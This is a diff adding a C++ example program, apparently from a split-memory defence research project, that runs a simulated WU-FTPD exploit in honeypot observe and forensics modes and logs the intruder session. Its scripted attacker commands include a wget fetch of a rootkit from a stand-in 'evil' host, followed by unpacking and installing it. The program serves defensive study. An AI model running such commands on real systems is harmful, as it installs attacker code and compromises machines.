@@ -1,0 +1,47 @@
+// Honeypot example: run the WU-FTPD victim under OBSERVE and FORENSICS
+// response modes (paper §4.5, §6.1.3 / Fig. 5) with Sebek-style logging.
+//
+// Observe mode lets the detected attack continue so the attacker's
+// two-stage shellcode, connect-back shell, and typed commands can all be
+// captured; forensics mode dumps the injected shellcode and replaces it
+// with exit(0) so the daemon dies gracefully instead of being owned.
+#include <cstdio>
+
+#include "attacks/realworld.h"
+#include "attacks/shellcode.h"
+
+using namespace sm;
+using namespace sm::attacks::realworld;
+
+int main() {
+  std::printf("honeypot example: WU-FTPD (7350wurm) under split memory\n\n");
+
+  {
+    std::printf("== observe mode: let the attack run, watch everything ==\n");
+    AttackOptions opts;
+    opts.response = core::ResponseMode::kObserve;
+    opts.attach_sebek = true;
+    opts.shell_commands = {"id", "wget http://evil/rootkit.tgz",
+                           "tar xzf rootkit.tgz", "./rootkit/install"};
+    const AttackResult r =
+        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
+    std::printf("attack detected: %s; shell spawned anyway: %s\n",
+                r.detected ? "yes" : "no", r.shell_spawned ? "yes" : "no");
+    std::printf("\nSebek log of the intruder's session:\n%s\n",
+                r.sebek_log.c_str());
+  }
+
+  {
+    std::printf("== forensics mode: dump the payload, exit cleanly ==\n");
+    AttackOptions opts;
+    opts.response = core::ResponseMode::kForensics;
+    const AttackResult r =
+        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
+    std::printf("attack detected: %s; shell spawned: %s\n",
+                r.detected ? "yes" : "no", r.shell_spawned ? "yes" : "no");
+    std::printf("\nfirst bytes of the injected shellcode (note the 0x90 NOP "
+                "sled,\nexactly as in the paper's Fig. 5c):\n%s\n",
+                r.forensic_dump.c_str());
+  }
+  return 0;
+}
